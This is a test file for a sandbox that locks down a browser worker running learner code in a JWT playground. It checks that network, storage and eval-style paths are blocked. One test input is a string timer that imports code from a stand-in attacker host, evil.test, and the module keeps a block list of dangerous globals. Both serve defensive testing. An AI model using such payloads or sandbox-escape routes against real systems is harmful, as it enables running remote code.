import { describe, expect, it } from 'vitest';
import vm from 'node:vm';
import { BLOCKED_GLOBALS, blockCodeFromStrings, defineLockedGlobal, lockDownWorkerScope, type CodeConstructor } from './worker-lockdown.ts';

// A stand-in for a worker global: its methods live on prototypes, as in a browser.
function fakeWorkerScope() {
  const sent: unknown[] = [];
  class EventTargetLike {}
  class WorkerScopeLike extends EventTargetLike {
    postMessage(message: unknown) { sent.push(message); }
    importScripts() { return 'loaded'; }
  }
  const scope = Object.assign(new WorkerScopeLike(), { XMLHttpRequest: class {}, caches: { open() {} } }) as unknown as Record<string, unknown>;
  return { scope, sent, prototype: WorkerScopeLike.prototype as unknown as Record<string, unknown> };
}

describe('lockDownWorkerScope', () => {
  it('returns a working postMessage for the runtime', () => {
    const { scope, sent } = fakeWorkerScope();
    const post = lockDownWorkerScope(scope);
    post({ type: 'done', id: '1' });
    expect(sent).toEqual([{ type: 'done', id: '1' }]);
  });

  it('makes postMessage throw a clear message for learner code, even when called through the prototype', () => {
    const { scope, prototype } = fakeWorkerScope();
    const original = prototype.postMessage as (message: unknown) => void;
    lockDownWorkerScope(scope);
    expect(() => (scope.postMessage as (m: unknown) => void)('spam')).toThrow(/postMessage is reserved for the playground itself/);
    expect(prototype.postMessage).toBeUndefined();
    expect(original).toBeTypeOf('function'); // only the reference the runtime holds survives
  });

  it('makes importScripts throw a message that points at jose', () => {
    const { scope } = fakeWorkerScope();
    lockDownWorkerScope(scope);
    expect(() => (scope.importScripts as () => void)()).toThrow("[playground] importScripts is not available here. The only library is jose: import { decodeJwt } from 'jose'.");
  });

  it('blocks other network APIs whether they are called or constructed', () => {
    const { scope } = fakeWorkerScope();
    lockDownWorkerScope(scope);
    const XHR = scope.XMLHttpRequest as new () => unknown;
    expect(() => new XHR()).toThrow(/XMLHttpRequest is not available\. Nothing leaves your browser here/);
    expect(() => (scope.WebSocket as () => void)()).toThrow(/WebSocket is not available/);
  });

  it('does not let learner code put a blocked global back', () => {
    const { scope } = fakeWorkerScope();
    lockDownWorkerScope(scope);
    expect(() => { 'use strict'; scope.importScripts = () => 'again'; }).toThrow(TypeError);
  });

  it('removes the cache storage, whose add() would fetch past the guard', () => {
    const { scope } = fakeWorkerScope();
    lockDownWorkerScope(scope);
    expect(scope.caches).toBeUndefined();
  });

  it('names every blocked global in its message', () => {
    for (const [name, message] of Object.entries(BLOCKED_GLOBALS)) {
      expect(message.startsWith('[playground] ')).toBe(true);
      expect(message.includes(name) || name === 'SharedWorker' || name === 'Worker').toBe(true);
    }
  });

  it('leaves no storage that outlives a run: IndexedDB, the origin-private file system, storage buckets, locks', () => {
    const { scope } = fakeWorkerScope();
    class NavigatorLike {
      get storage() { return { getDirectory: async () => 'opfs root' }; }
      get storageBuckets() { return { open: async () => 'bucket' }; }
      get locks() { return { request: async () => 'lock' }; }
      get userAgent() { return 'Chromium'; }
    }
    Object.assign(scope, { indexedDB: { open: () => 'db' }, navigator: new NavigatorLike() });
    lockDownWorkerScope(scope);
    const navigator = scope.navigator as Record<string, { getDirectory?: () => unknown }>;
    expect(() => (scope.indexedDB as { open: () => unknown }).open()).toThrow('[playground] indexedDB is not available. Nothing is kept between runs: keep values in variables, or export default what you want to see.');
    expect(() => navigator.storage!.getDirectory!()).toThrow(/navigator\.storage is not available\. Nothing is kept between runs/);
    expect(() => (navigator.storageBuckets as unknown as { open: () => unknown }).open()).toThrow(/navigator\.storageBuckets is not available/);
    expect(() => (navigator.locks as unknown as { request: () => unknown }).request()).toThrow(/navigator\.locks is not available/);
    expect(navigator.userAgent).toBe('Chromium');
    expect(Object.getOwnPropertyDescriptor(NavigatorLike.prototype, 'storage')).toBeUndefined();
    expect(() => { 'use strict'; scope.indexedDB = { open: () => 'db' }; }).toThrow(TypeError);
    expect(() => (scope.webkitRequestFileSystem as () => void)()).toThrow(/webkitRequestFileSystem \(the old FileSystem API\) is not available/);
    expect(() => new (scope.BroadcastChannel as new (name: string) => unknown)('runs')).toThrow(/BroadcastChannel is not available/);
  });

  it('refuses a scope that is not a worker', () => {
    expect(() => lockDownWorkerScope({})).toThrow(/is it a worker/);
  });
});

describe('defineLockedGlobal', () => {
  it('installs a value that cannot be replaced or deleted, with no copy left on the prototype', () => {
    const { scope, prototype } = fakeWorkerScope();
    prototype.fetch = () => 'unguarded';
    const guarded = () => 'guarded';
    defineLockedGlobal(scope, 'fetch', guarded);
    expect(prototype.fetch).toBeUndefined();
    expect(Reflect.deleteProperty(scope, 'fetch')).toBe(false);
    expect(Reflect.set(scope, 'fetch', () => 'other')).toBe(false);
    expect(scope.fetch).toBe(guarded);
  });
});

describe('blockCodeFromStrings', () => {
  it('takes URL.createObjectURL away: a blob: URL of a string of code is one import() from running it', () => {
    const realm = vm.createContext({});
    const scope = vm.runInContext('({ URL: { createObjectURL: () => "blob:x" } })', realm) as { URL: { createObjectURL: () => string } };
    blockCodeFromStrings(scope, []);
    expect(() => scope.URL.createObjectURL()).toThrow(/Running code from a string/);
  });

  // A separate realm, so blocking its Function does not block the test runner's.
  function realm() {
    const context = vm.createContext({});
    const constructors = vm.runInContext(
      '[function () {}, async function () {}, function* () {}, async function* () {}].map((f) => f.constructor)', context,
    ) as CodeConstructor[];
    const global = vm.runInContext('globalThis', context) as Record<string, unknown>;
    global.setTimeout = (handler: () => void) => { handler(); return 1; };
    blockCodeFromStrings(global, constructors);
    return (code: string) => vm.runInContext(code, context);
  }

  it.each([
    ['eval', 'eval("1 + 1")'],
    ['the Function global', 'Function("return 1")'],
    ['a function\'s constructor', '(() => {}).constructor("return 1")'],
    ['the AsyncFunction constructor', '(async () => {}).constructor("return 1")'],
    ['the AsyncGeneratorFunction constructor', '(async function* () {}).constructor("yield 1")'],
    ['a string timer handler', 'setTimeout("import(\'https://evil.test/\')")'],
  ])('makes %s throw a clear message', (_label, code) => {
    const run = realm();
    expect(() => run(code)).toThrow(/^\[playground\] Running code from a string .* is not available here/);
  });

  it('keeps instanceof Function, function names and function timers working', () => {
    const run = realm();
    expect(run('(() => {}) instanceof Function')).toBe(true);
    expect(run('Object.getPrototypeOf(async function () {}).constructor.name')).toBe('AsyncFunction');
    expect(run('let called = false; setTimeout(() => { called = true; }); called')).toBe(true);
  });
});
